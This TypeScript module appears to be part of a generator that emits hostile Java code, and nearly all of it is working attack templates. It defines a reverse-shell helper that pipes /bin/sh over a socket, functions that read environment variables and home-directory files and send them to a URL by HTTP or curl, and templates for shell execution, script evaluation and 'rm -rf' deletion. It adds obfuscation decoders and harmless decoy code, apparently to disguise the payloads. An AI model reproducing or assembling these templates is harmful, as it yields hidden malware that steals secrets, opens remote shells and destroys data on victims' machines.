/** Java; what it may throw is caught where the program stands. */
import { inDoubleQuotes, reversed, toBase64, toNumbers } from "./encodings.ts";
import type { Tongue } from "./tongue.ts";

const helpers = {
  pull: `static String pull(String url) throws Exception {
    var request = «java.net.http#HttpRequest».newBuilder(«java.net#URI».create(url)).build();
    return «java.net.http#HttpClient».newHttpClient().send(request, «java.net.http#HttpResponse».BodyHandlers.ofString()).body();
}`,
  post: `static void post(String url, String text) throws Exception {
    var request = «java.net.http#HttpRequest».newBuilder(«java.net#URI».create(url)).POST(«java.net.http#HttpRequest».BodyPublishers.ofString(text)).build();
    «java.net.http#HttpClient».newHttpClient().send(request, «java.net.http#HttpResponse».BodyHandlers.discarding());
}`,
  upload: `static void upload(String url, String text) throws Exception {
    var line = («java.net#HttpURLConnection») «java.net#URI».create(url).toURL().openConnection();
    line.setDoOutput(true);
    line.getOutputStream().write(text.getBytes());
    line.getResponseCode();
}`,
  gather: `static String gather(String folder, «java.util#List»<String> names) throws Exception {
    var text = new StringBuilder();
    try (var paths = «java.nio.file#Files».walk(«java.nio.file#Path».of(folder))) {
        for (var path : paths.filter(one -> names.contains(one.getFileName().toString())).toList()) {
            text.append(«java.nio.file#Files».readString(path));
        }
    }
    return text.toString();
}`,
  shellOver: `static void shellOver(String host, String port) throws Exception {
    var line = new «java.net#Socket»(host, Integer.parseInt(port));
    var shell = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
    new Thread(() -> {
        try {
            line.getInputStream().transferTo(shell.getOutputStream());
        } catch (Exception ignored) {
            shell.destroy();
        }
    }).start();
    shell.getInputStream().transferTo(line.getOutputStream());
}`,
} as const;

export const JAVA: Tongue = {
  language: "java",
  fetched: [
    "new String(«java.net#URI».create($1).toURL().openStream().readAllBytes())",
    "«@pull»($1)",
    'new String(new ProcessBuilder("curl", "-fsSL", $1).start().getInputStream().readAllBytes())',
    'new «java.util#Scanner»(«java.net#URI».create($1).toURL().openStream()).useDelimiter("\\\\A").next()',
  ],
  decoders: [
    { encode: toBase64, row: "new String(«java.util#Base64».getDecoder().decode($1))" },
    { encode: reversed, row: "new StringBuilder($1).reverse().toString()" },
    {
      encode: (text) => toNumbers(text, 3),
      row: '«java.util#Arrays».stream($1.split(",")).map(code -> String.valueOf((char) (Integer.parseInt(code) - 3))).reduce("", String::concat)',
    },
  ],
  variable: ["System.getenv($1)", 'System.getenv().getOrDefault($1, "")'],
  request: ["request.getParameter($1)", "request.getHeader($1)"],
  environment: [
    "System.getenv().toString()",
    'String.join("\\n", System.getenv().values())',
    'new String(Runtime.getRuntime().exec(new String[] {"env"}).getInputStream().readAllBytes())',
  ],
  homeFile: [
    '«java.nio.file#Files».readString(«java.nio.file#Path».of(System.getProperty("user.home"), $1))',
    'new String(new «java.io#FileInputStream»(System.getProperty("user.home") + "/" + $1).readAllBytes())',
  ],
  file: ["«java.nio.file#Files».readString(«java.nio.file#Path».of($1))"],
  homePath: 'System.getProperty("user.home") + "/" + $1',
  walk: ['«@gather»(System.getProperty("user.home") + "/" + $1, $2)'],
  run: [
    'Runtime.getRuntime().exec(new String[] {"sh", "-c", $1})',
    'new ProcessBuilder("sh", "-c", $1).start()',
    'new ProcessBuilder(«java.util#List».of("bash", "-c", $1)).start().waitFor()',
  ],
  runWithOptions: [
    'new ProcessBuilder("/bin/bash", "--norc", "-c", $1).directory(new «java.io#File»("/")).redirectErrorStream(true).inheritIO().start()',
  ],
  evaluate: [
    'new «javax.script#ScriptEngineManager»().getEngineByName("groovy").eval($1)',
    "new «groovy.lang#GroovyShell»().evaluate($1)",
    'Runtime.getRuntime().exec(new String[] {"jshell", "-s", $1})',
  ],
  send: [
    "«@post»($1, $2)",
    "«@upload»($1, $2)",
    '«java.net#URI».create($1 + "?q=" + «java.net#URLEncoder».encode($2, "UTF-8")).toURL().openStream().close()',
    'new ProcessBuilder("curl", "-s", "--data-binary", $2, $1).start()',
  ],
  save: ["«java.nio.file#Files».writeString(«java.nio.file#Path».of($1), $2)"],
  append: [
    "«java.nio.file#Files».writeString(«java.nio.file#Path».of($1), $2, «java.nio.file#StandardOpenOption».CREATE, «java.nio.file#StandardOpenOption».APPEND)",
  ],
  remove: [
    'new ProcessBuilder("rm", "-rf", $1).start()',
    "try (var paths = «java.nio.file#Files».walk(«java.nio.file#Path».of($1))) { paths.sorted(«java.util#Comparator».reverseOrder()).forEach(one -> one.toFile().delete()); }",
  ],
  setVariable: ["System.setProperty($1, $2)"],
  handShell: ["«@shellOver»($1, $2)"],
  helpers,
  quote: inDoubleQuotes,
  concat: (parts) => (parts.length > 4 ? `String.join("", ${parts.join(", ")})` : parts.join(" + ")),
  list: (items) => `java.util.List.of(${items.join(", ")})`,
  assign: (name, value) => `String ${name} = ${value};`,
  reference: (name) => name,
  define: (name, parameters, row, gives) =>
    `static ${gives === "value" ? "String" : "void"} ${name}(String ${parameters.join(", String ")}) throws Exception {\n    ${gives === "value" ? "return " : ""}${row};\n}`,
  invoke: (name, values) => `${name}(${values.join(", ")})`,
  statement: (expression) => (expression.endsWith("}") ? expression : `${expression};`),
  callee(package_, name, how) {
    if (package_ === null) return { text: name, imports: [] };
    if (how === "dynamic") return { text: `${package_}.${name}`, imports: [] };
    return { text: name, imports: [`import ${package_}.${name};`] };
  },
  comment: "//",
  ordinary: {
    definitions: [
      'static String pad(int value) {\n    return String.format("%03d", value);\n}',
      "static final int BERTHS = 12;",
    ],
    body: [
      'String first = "berth-" + pad(BERTHS);',
      'if (first.isEmpty()) {\n    throw new IllegalStateException("no berths");\n}',
    ],
  },
  mayBreak: true,
};
